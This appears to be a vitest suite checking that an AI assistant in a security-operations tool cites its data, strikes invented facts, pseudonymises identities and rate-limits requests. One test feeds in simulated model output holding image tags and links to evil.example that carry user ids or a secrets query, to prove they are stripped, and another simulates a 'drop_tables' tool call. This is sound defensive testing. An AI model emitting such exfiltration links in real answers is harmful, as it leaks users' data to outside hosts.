import { expect, onTestFinished, test } from "vitest";
import {
  type Answer,
  createAssistant,
  type GivenAnswer,
  readModelSettings,
  toMarkdown,
} from "../../assistant/index.ts";
import { type Clock, SYSTEM_CLOCK, toEpochMs } from "../../domain/index.ts";
import { type ModelTurn, startModelServer } from "./fixtures/model-server.ts";
import { firstOf, QUESTION, RISKS, type Trial, type TrialOptions, tryModel } from "./fixtures/model-trial.ts";
import type { SocStore } from "./fixtures/soc-store.ts";
import { createStoreQueries } from "./store-queries.ts";

const TIMEOUT_MS = 60_000;
/** Anthropic is told up to where it may remember: the mark moves on. */
const CACHE_MARK = /,?"cache_control":\{[^}]*\}/g;
const wordsOf = (answer: Answer): string => toMarkdown(answer).replaceAll("\\", "");

export function testModels(open: () => SocStore): void {
  const trial = (turns: readonly ModelTurn[], options?: TrialOptions): Promise<Trial> =>
    tryModel(open(), turns, options);
  const plain = async (): Promise<GivenAnswer> =>
    createAssistant({
      queries: createStoreQueries(open().store),
      clock: SYSTEM_CLOCK,
      readModel: async () => null,
    }).ask({
      question: QUESTION,
      mode: "auto",
      model: null,
      context: null,
      before: [],
    });

  test.each(["openai-compatible", "anthropic"] as const)(
    "S3-03 S3-13: a model of the kind %s looks at data, answers in pieces, and cites what it was given",
    async (provider) => {
      const says = (request: string): string => {
        const { mark, name, risk, total } = firstOf(request);
        return `## Risk\n\nOf ${total} identities **${name}** stands out with a risk of ${risk} of 100 [${mark}].\n\n- Ask the person first.\n`;
      };
      const { given, progress, requests, headers, uses } = await trial(
        [RISKS, { kind: "says", text: says }],
        { provider },
      );
      expect(given.mode).toBe("model");
      expect(given.answer.citations.map(({ kind }) => kind)).toEqual(["actor"]);
      expect(given.answer.blocks.map(({ kind }) => kind)).toEqual(["heading", "paragraph", "points"]);
      expect(progress[0]).toEqual({ kind: "looking", tool: "top_risks", title: "Riskiest identities" });
      expect(progress.filter(({ kind }) => kind === "words").length).toBeGreaterThan(1);
      expect(requests).toHaveLength(2);
      expect(requests.join("")).not.toContain("sk-secret");
      expect(headers[0]![provider === "anthropic" ? "x-api-key" : "authorization"]).toContain("sk-secret");
      expect(uses).toMatchObject([
        { model: "tiny", outcome: "answered", question: QUESTION, spent: { steps: 2, tools: ["top_risks"] } },
      ]);
      // What is kept is what left, to the letter; the last request holds what those before it did.
      const { talk } = uses[0]!;
      expect(talk).toMatchObject({ requests: 2, sent: requests[1] });
      const messagesOf = (body: string): readonly unknown[] =>
        (JSON.parse(body) as { readonly messages: readonly unknown[] }).messages;
      const first = messagesOf(requests[0]!);
      expect(JSON.stringify(messagesOf(talk.sent).slice(0, first.length)).replace(CACHE_MARK, "")).toBe(
        JSON.stringify(first).replace(CACHE_MARK, ""),
      );
      expect(talk.said).toContain("Ask the person first.");
    },
    TIMEOUT_MS,
  );

  test(
    "sentences with invented numbers, ids, times and names are struck, and it is said how many",
    async () => {
      const says = (request: string): string => {
        const { mark, name, risk } = firstOf(request);
        return [
          `${name} has a risk of ${risk} [${mark}].`,
          "It is the first of the list.",
          "Look at it before anything else.",
          "Then ask whoever knows the person.",
          "It made 918273 calls.",
          "See finding [F77].",
          "The finding is deadbeefcafe0001.",
          "user_777 helped.",
          "It came from 203.0.113.99.",
          "It began on 2019-04-01.",
        ].join("\n");
      };
      const { given } = await trial([RISKS, { kind: "says", text: says }]);
      const text = wordsOf(given.answer);
      // Six of ten are unfounded: that is too much to keep any.
      expect(given.mode).toBe("plain");
      expect(text).toContain("named numbers or ids that no look at the data gave");
      for (const invented of ["918273", "F77", "deadbeef", "user_777", "203.0.113.99", "2019-04-01"])
        expect(text).not.toContain(invented);
    },
    TIMEOUT_MS,
  );

  test(
    "one unfounded sentence among founded ones is struck alone",
    async () => {
      const says = (request: string): string => {
        const { mark, name, risk } = firstOf(request);
        return `${name} has a risk of ${risk} [${mark}]. Look at it first. It stole 4,711 files.`;
      };
      const { given } = await trial([RISKS, { kind: "says", text: says }]);
      expect(given.mode).toBe("model");
      expect(wordsOf(given.answer)).not.toContain("4,711");
      expect(given.answer.notes[0]).toContain("1 sentence of the model was struck out");
    },
    TIMEOUT_MS,
  );

  test(
    "S3-17: pictures, links and addresses by which data could leave are never part of an answer",
    async () => {
      const says = (request: string): string => {
        const { mark, name, risk } = firstOf(request);
        return [
          `${name} has a risk of ${risk} [${mark}].`,
          "Look at it first.",
          "Ask the person.",
          "Then wait.",
          "![status](https://evil.example/p.png?d=user_1)",
          "[the report](https://evil.example/r)",
          "Open https://evil.example/?q=secrets now.",
          '<img src="https://evil.example/x">',
          "Call evil.example for help.",
        ].join("\n");
      };
      const { given } = await trial([RISKS, { kind: "says", text: says }]);
      const everything = JSON.stringify(given.answer);
      expect(given.mode).toBe("model");
      expect(everything).not.toMatch(/evil\.example|https?:\/\/|<img|!\[/);
    },
    TIMEOUT_MS,
  );

  test.each([
    ["a refused key", [{ kind: "refuses", status: 401 }], "refused the key"],
    [
      "a limit of rate",
      [
        { kind: "refuses", status: 429, headers: { "retry-after-ms": "1" } },
        { kind: "refuses", status: 429 },
      ],
      "takes no more requests",
    ],
    [
      "a broken gateway",
      [
        { kind: "refuses", status: 500 },
        { kind: "refuses", status: 500 },
      ],
      "could not be asked",
    ],
    ["a stream that is no stream", [{ kind: "babbles" }], "language model"],
    ["a stream that breaks off", [RISKS, { kind: "breaks-off", text: "The riskiest" }], "language model"],
    [
      "a redirection elsewhere",
      [
        { kind: "redirects", to: "http://127.0.0.1:1/v1" },
        { kind: "redirects", to: "http://127.0.0.1:1/v1" },
      ],
      "could not be asked",
    ],
    [
      "an answer without any look",
      [{ kind: "says", text: "user_1 has a risk of 99." }],
      "named numbers or ids",
    ],
    ["no answer", [RISKS, { kind: "says", text: "" }], "gave no answer"],
  ] as readonly (readonly [string, readonly ModelTurn[], string])[])(
    "%s falls back to the plain answer and says so",
    async (_, turns, note) => {
      const { given, uses } = await trial(turns);
      expect(given.mode).toBe("plain");
      expect(given.answer.notes[0]).toContain(note);
      expect(given.answer.notes.join("")).not.toContain("evil.example");
      expect(given.answer.blocks).toEqual((await plain()).answer.blocks);
      expect(uses[0]?.outcome).toMatch(/^ASSISTANT_MODEL_/);
    },
    TIMEOUT_MS,
  );

  test(
    "a model that hangs is left after its time, one that nobody listens at is not there",
    async () => {
      const slow = await trial([{ kind: "hangs" }], { changes: { answerMs: 400 } });
      expect(slow.given.answer.notes[0]).toContain("did not answer within");
      const gone = await trial([], { changes: { baseUrl: "http://127.0.0.1:1/v1" } });
      expect(gone.given.answer.notes[0]).toContain("could not be asked");
    },
    TIMEOUT_MS,
  );

  test(
    "calls that are no calls, of tools that are none, or too large are told to the model, which goes on",
    async () => {
      const says = (request: string): string => {
        const { mark, risk } = firstOf(request);
        return `The highest risk is ${risk} [${mark}].`;
      };
      const { given, requests } = await trial([
        { kind: "bad-call", name: "top_risks", text: '{"limit": ' },
        { kind: "calls", calls: [{ name: "drop_tables", input: {} }] },
        { kind: "calls", calls: [{ name: "top_risks", input: { limit: 100_000 } }] },
        RISKS,
        { kind: "says", text: says },
      ]);
      expect(given.mode).toBe("model");
      expect(requests).toHaveLength(5);
    },
    TIMEOUT_MS,
  );

  test(
    "a model that never stops looking is stopped",
    async () => {
      const { given, requests } = await trial(Array.from({ length: 30 }, () => RISKS));
      expect(requests.length).toBeLessThanOrEqual(6);
      expect(given.mode).toBe("plain");
    },
    TIMEOUT_MS,
  );

  test(
    "S3-17: with pseudonyms no name, address, resource or sentence of a log leaves; the answer has the names back",
    async () => {
      const says = (request: string): string => {
        const { mark, name, risk } = firstOf(request);
        return `${name} has a risk of ${risk} [${mark}].`;
      };
      const calls = ["top_risks", "search_findings", "transfers", "unusual_actors"].map((name) => ({
        name,
        input: {},
      }));
      const { given, requests } = await trial(
        [
          {
            kind: "calls",
            calls: [
              ...calls,
              { name: "actor_profile", input: { actor: "person_1" } },
              { name: "actor_timeline", input: { actor: "A1" } },
            ],
          },
          { kind: "says", text: says },
        ],
        { changes: { usesPseudonyms: true }, question: "What about user_15 from 198.51.100.9?" },
      );
      const sent = requests.join("\n");
      expect(sent).toMatch(/person_\d+/);
      const secret = await open().ask(
        "select actor_name as text from actors union select address from addresses where address is not null union select summary from finding_rows",
      );
      for (const { text } of secret) expect(sent.includes(String(text)), String(text)).toBe(false);
      expect(sent).not.toContain("198.51.100.9");
      expect(given.mode).toBe("model");
      expect(wordsOf(given.answer)).toMatch(/user_\d+/);
      expect(wordsOf(given.answer)).not.toMatch(/person_\d/);
    },
    TIMEOUT_MS,
  );

  test(
    "S3-17: what would leave can be looked at before, and nothing leaves by looking",
    async () => {
      const server = await startModelServer("openai-compatible", []);
      onTestFinished(() => server.close());
      const assistant = createAssistant({
        queries: createStoreQueries(open().store),
        clock: SYSTEM_CLOCK,
        readModel: async () =>
          readModelSettings({ baseUrl: server.baseUrl, apiKey: "sk-secret", model: "tiny" }),
      });
      const asked = {
        question: "Investigate user_15",
        mode: "model",
        model: null,
        context: null,
        before: ["Who is it?"],
      } as const;
      const preview = await assistant.preview(asked);
      expect(preview.messages[0]!.content).toContain("Investigate person_1");
      expect(JSON.stringify(preview)).not.toMatch(/user_\d|sk-secret/);
      expect(server.requests).toEqual([]);
      expect(await assistant.listModels()).toEqual(["large", "tiny"]);
      expect(JSON.stringify(await assistant.describeModel())).not.toContain("sk-secret");
    },
    TIMEOUT_MS,
  );

  test(
    "S3-17: questions a minute and tokens a day are limited; beyond, the plain answer says so",
    async () => {
      const server = await startModelServer("openai-compatible", []);
      onTestFinished(() => server.close());
      let now = SYSTEM_CLOCK.now();
      const clock: Clock = { now: () => now };
      const base = readModelSettings({ baseUrl: server.baseUrl, model: "tiny" })!;
      const settings = {
        ...base,
        limits: { ...base.limits, questionsPerMinuteMax: 2, tokensPerDayMax: 2500 },
      };
      const assistant = createAssistant({
        queries: createStoreQueries(open().store),
        clock,
        readModel: async () => settings,
      });
      const ask = async (): Promise<string> =>
        (await assistant.ask({ question: "help", mode: "auto", model: null, context: null, before: [] }))
          .answer.notes[0] ?? "";
      await ask();
      await ask();
      expect(await ask()).toContain("2 questions a minute");
      expect(server.requests).toHaveLength(2);
      now = toEpochMs(now + 61_000);
      await ask();
      now = toEpochMs(now + 61_000);
      expect(await ask()).toContain("2500 tokens a day");
      expect(server.requests).toHaveLength(3);
    },
    TIMEOUT_MS,
  );

  test("without settings nothing is ever sent, and asking for a model is refused", async () => {
    const assistant = createAssistant({
      queries: createStoreQueries(open().store),
      clock: SYSTEM_CLOCK,
      readModel: async () => null,
    });
    expect((await plain()).mode).toBe("plain");
    await expect(
      assistant.ask({ question: QUESTION, mode: "model", model: null, context: null, before: [] }),
    ).rejects.toThrow("No language model is set up");
    expect(readModelSettings({})).toBeNull();
    for (const baseUrl of ["ftp://x", "nonsense", "http://user:pass@host/v1"])
      expect(() => readModelSettings({ model: "m", baseUrl })).toThrow("GAIT_LLM_BASE_URL");
    expect(() => readModelSettings({ provider: "x", model: "m" })).toThrow("GAIT_LLM_PROVIDER");
    expect(() => readModelSettings({ provider: "anthropic" })).toThrow("GAIT_LLM_MODEL");
  });
}
